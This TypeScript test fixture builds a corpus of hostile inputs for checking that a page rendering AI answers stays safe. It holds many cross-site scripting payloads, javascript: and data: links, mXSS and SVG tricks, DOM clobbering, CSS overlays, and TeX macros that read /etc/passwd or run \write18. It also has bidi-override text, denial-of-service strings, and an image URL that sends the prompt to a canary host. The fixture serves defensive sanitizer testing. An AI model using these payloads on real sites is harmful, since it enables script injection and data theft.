/** One attempt of an answer to run, load or escape. */
export interface Attempt {
  name: string;
  text: string;
  /** Turns to make it in, where text is not what carries it. */
  turns?: object[];
}

/**
 * What an answer may try. Code that runs says so by `ran()`; what loads asks `canary`, a server of ours that should
 * never hear anything.
 */
export function untrustedCorpus(canary: string): Attempt[] {
  const html: Record<string, string> = {
    'script element': `<script>ran('script')</script><script src="${canary}/script.js"></script>`,
    'script in a block': `<script>\nran('script-block')\n</script>\n\nafter`,
    'image with a handler': `<img src=x onerror="ran('onerror')"><img src="${canary}/img.png" onload="ran('onload')">`,
    'unquoted, slashed and broken tags': `<img/src=x/onerror=ran('slash')>\n<<script>ran('double')//<</script>\n<svg/onload=ran('svg-slash')`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="ran('svg')"><script>ran('svg-script')</script><image href="${canary}/svg.png"/><use href="${canary}/use.svg#x"/><foreignObject><body onload="ran('foreign')"></foreignObject></svg>`,
    mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran('mxss')&gt;"></table></mtext></math>`,
    frames: `<iframe src="javascript:ran('iframe')"></iframe><iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed"><portal src="${canary}/portal"></portal>`,
    forms: `<form action="${canary}/form"><input autofocus onfocus="ran('focus')"><button formaction="javascript:ran('formaction')">Next</button></form><isindex action=javascript:ran('isindex')>`,
    'page-wide elements': `<base href="${canary}/"><link rel="stylesheet" href="${canary}/link.css"><link rel="prefetch" href="${canary}/prefetch"><meta http-equiv="refresh" content="0;url=${canary}/refresh"><title>Taken over</title><body onload="ran('body')">`,
    css: `<style>@import url("${canary}/import.css"); body { display: none } article { position: fixed; inset: 0; background: url("${canary}/css.png") }</style><div style="position:fixed;inset:0;z-index:99999;background:url(${canary}/style.png)">over everything</div>`,
    media: `<video autoplay src="${canary}/video.mp4" poster="${canary}/poster.png"></video><audio src="${canary}/a.mp3" onerror="ran('audio')"></audio><picture><source srcset="${canary}/source.png"><img srcset="${canary}/srcset.png 2x"></picture>`,
    'open and never closed': `</div></div></article></main><div style="position:fixed;top:0">escaped<!-- <plaintext><textarea><xmp><noscript><template>`,
    'names of our own page': `<div id="__next" data-testid="pair" data-assignment="x" role="status" aria-live="assertive">clobbered</div><form name="body"><input name="attributes"></form><a id="location" href="${canary}/clobber">x</a>`,
    'comments and declarations': `<!-- <script>ran('comment')</script> --><!--><img src=x onerror=ran('comment-end')>--><![CDATA[<script>ran('cdata')</script>]]><?xml-stylesheet href="${canary}/pi.css"?><!DOCTYPE html [<!ENTITY x SYSTEM "${canary}/entity">]>`,
    'class names of our own styles': `<div class="fixed inset-0 z-50 bg-accent">over</div>\n\n# Heading {#content .fixed .inset-0}\n\n\`\`\`fixed inset-0 {.fixed}\nx\n\`\`\`\n\n<p style="background:url(${canary}/p.png)" class="sr-only">p</p>`,
    'dialogs and popovers': `<dialog open>d</dialog><div popover id="p">p</div><button popovertarget="p" autofocus>b</button><input type="image" src="${canary}/input.png"><select autofocus onfocus="ran('select')"></select>`,
    'animation and marquee': `<marquee onstart="ran('marquee')">m</marquee><details open ontoggle="ran('toggle')">d</details><x onanimationstart="ran('animation')" style="animation:x">y</x>`,
  };
  const links: Record<string, string> = {
    'javascript link': `[click](javascript:ran('link')) [caps](JaVaScRiPt:ran('caps')) [entity](&#106;avascript:ran('entity')) [tab](java\tscript:ran('tab')) <javascript:ran('auto')>`,
    'schemes in disguise': `[a](JAVASCRIPT:ran(1)) [b](java&#x0A;script:ran(2)) [c](&#1;javascript:ran(3)) [d](&Tab;javascript&colon;ran(4)) [e](vBsCrIpT:ran(5)) [f](DATA:text/html;base64,PHNjcmlwdD5yYW4oNik8L3NjcmlwdD4=) ![g](DaTa:image/svg+xml,<svg/onload=ran(7)>) <data:text/html,x> [h](\u200Bjavascript:ran(8)) [i](feed:javascript:ran(9)) [j](jav\u0001ascript:ran(10)) [k](\\\\${new URL(canary).host}/unc)`,
    'data and other schemes': `[data](data:text/html,<script>ran('data')</script>) [vb](vbscript:ran('vb')) [blob](blob:${canary}/x) [file](file:///etc/passwd) [view](view-source:${canary}/)`,
    'link with an attribute in its title': `[x](https://example.org 'a" onmouseover="ran(1)" style="position:fixed')  [y](<https://example.org" onclick="ran(2)>)`,
    'reference links': `[one][r] ![two][r] [three][j]\n\n[r]: ${canary}/reference.png "t"\n[j]: javascript:ran('reference')`,
    'own pages': `[settings](/api/trpc/account.change?batch=1) ![own](/api/v1/tokens) ![relative](../../sign-out) ![scheme](//${new URL(canary).host}/scheme.png)`,
    'names of headings and notes': `# content\n\n# __next\n\n# attributes\n\n[to it](#content) [^1] [^content]\n\n[^1]: one\n[^content]: two`,
    footnotes: `A note[^1] and [^<img src=x onerror=ran('footnote')>]\n\n[^1]: ![n](${canary}/footnote.png) <script>ran('footnote')</script>`,
  };
  const images: Record<string, string> = {
    image: `![plain](${canary}/image.png) ![with title](${canary}/titled.png "title")`,
    'image in a link': `[![nested](${canary}/nested.png)](javascript:ran('nested'))`,
    'image that leaks in its address': `![x](${canary}/?leak=the+whole+prompt) <${canary}/autolink>`,
    'data image': `![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbignZGF0YS1zdmcnKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+) ![p](data:image/png;base64,iVBORw0KGgo=)`,
    'image whose description is markup': `!["><script>ran('alt')</script>](${canary}/alt.png) ![\`a\` <b onclick=ran('b')>](x)`,
  };
  const maths: Record<string, string> = {
    'maths that links': String.raw`$\href{javascript:ran('href')}{x}$ $\url{javascript:ran('url')}$ \(\href{${canary}/href}{y}\)`,
    'maths that loads': String.raw`$$\includegraphics[height=9em]{${canary}/graphics.png}$$`,
    'maths that names elements': String.raw`$\htmlId{__next}{x}$ $\htmlClass{fixed inset-0}{y}$ $\htmlStyle{position:fixed;inset:0}{z}$ $\htmlData{testid=pair}{w}$`,
    'maths without end': String.raw`$\def\a{\a\a}\a$ $\newcommand{\b}{\b x}\b$ $\edef\c{x\c}\c$`,
    'maths as large as a wall': String.raw`$\rule{900em}{900em}$ $\kern{-500em}\rule{50em}{50em}$ \[\raise{400em}{x}\smash{\rule{80em}{80em}}\]`,
    'maths that paints elsewhere': String.raw`$\llap{\rule{60em}{9em}}x\rlap{\rule{60em}{9em}}$ $\hspace{-90em}\text{over}$ $\raisebox{-40em}{\Huge y}$ \[\begin{array}{c}a\\[90em]b\end{array}\tag{far}\]`,
    'maths with styles': String.raw`$\color{url(${canary}/color)}{x}$ $\colorbox{red;background:url(${canary}/box)}{y}$ $\textcolor{#f00;position:fixed}{z}$ $\fcolorbox{red}{url(${canary}/f)}{w}$`,
    'maths that doubles': String.raw`$\def\x#1{#1#1#1#1}\x{\x{\x{\x{\x{\x{\x{\x{a}}}}}}}}$ $\input{/etc/passwd}\write18{id}\csname a\endcsname$`,
    'maths of markup': String.raw`$<img src=x onerror=ran('tex')>$ $\text{<script>ran('text')</script>}$`,
  };
  const code: Record<string, string> = {
    'code of markup': `\`<img src=x onerror=ran('code')>\`\n\n\`\`\`html\n<script>ran('fence')</script>\n<img src="${canary}/fence.png">\n\`\`\``,
    'fence with a language of markup': `\`\`\`"><img/src=x/onerror=ran('lang')>\nx\n\`\`\`\n\n\`\`\`__proto__\nx\n\`\`\`\n\n\`\`\`constructor\nx\n\`\`\``,
    diagrams: `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=ran('mermaid')>"] --> B; click A "javascript:ran('click')"\n\`\`\`\n\n\`\`\`svg\n<svg onload=ran('svg-fence')/>\n\`\`\``,
    templates: `{{constructor.constructor('ran(1)')()}} \${ran('template')} <%= ran('erb') %> #{ran('pug')}`,
  };
  const text: Record<string, string> = {
    'order turned round': `if (access_level != "user\u202E \u2066// check if admin\u2069 \u2066") {\n\n\`user\u202E\u2066\` and \u202Eevil\u202C [li\u202Enk](https://example.org "\u202Etitle")`,
    'marks piled up': `Z${'\u0334\u0323\u0300\u0301\u0310\u0343'.repeat(200)}algo ${'\u0E49'.repeat(300)}`,
    'a word without end': 'W'.repeat(8_000),
    'lines without end': `# ${'H'.repeat(3_000)}\n\n> ${'q'.repeat(3_000)}\n\n| ${'c'.repeat(3_000)} | ${'d '.repeat(2_000)} |\n| - | - |\n| x | y |`,
    'nested without end': `${'> '.repeat(4_000)}deep\n\n${'['.repeat(4_000)}x${']'.repeat(4_000)}\n\n${'*_'.repeat(4_000)}`,
    'lists without end': Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- d`).join('\n'),
    'brackets without end': '![a]('.repeat(4_000),
    'emphasis without end': '*a _b '.repeat(4_000),
    'control characters': `a\u0001b\u0007c\u001b[31mred\u001b[0m \u2028 \u2029 \uFEFF \uFFFD \u200B end`,
    'words of our own page': `Answer B\n\n## Answer B\n\n*B is better.* Press 6. ✓ Saved`,
    'a megabyte': `A megabyte. <script>ran('megabyte')</script> ![x](${canary}/megabyte.png)\n\n${'All work and no play makes **Jack** a dull boy, $x^2$. '.repeat(19_500)}`,
  };
  const turns: Record<string, object[]> = {
    'tool calls': [
      {
        role: 'assistant',
        content: '',
        tool_calls: [
          {
            id: '1',
            name: `<img src=x onerror=ran('tool')> ![n](${canary}/tool.png) \u202Eevil`,
            arguments: `{"<script>ran('key')</script>":"<img src=${canary}/argument.png onerror=ran('argument')>","__proto__":{"x":1}}`,
          },
          {
            id: '2',
            name: 'W'.repeat(2_000),
            arguments: `</code></pre><script>ran('unparsed')</script> ![a](${canary}/unparsed.png)`,
          },
          { id: '3', name: '', arguments: `${'[{"a":'.repeat(500)}1${'}]'.repeat(500)}` },
        ],
      },
    ],
    'tool results': [
      {
        role: 'tool',
        name: `"><script>ran('result-name')</script>`,
        tool_call_id: '1',
        content: `<script>ran('result')</script> ![r](${canary}/result.png) [l](javascript:ran('result-link')) $\\href{javascript:ran(1)}{x}$`,
      },
      { role: 'tool', tool_call_id: '2', content: `["<img src=${canary}/json.png onerror=ran('json')>"]` },
      { role: 'assistant', content: 'done' },
    ],
  };
  const texts = Object.entries({ ...html, ...links, ...images, ...maths, ...code, ...text }).map(
    ([name, written]) => ({ name, text: written }),
  );
  return [...texts, ...Object.entries(turns).map(([name, made]) => ({ name, text: '', turns: made }))];
}
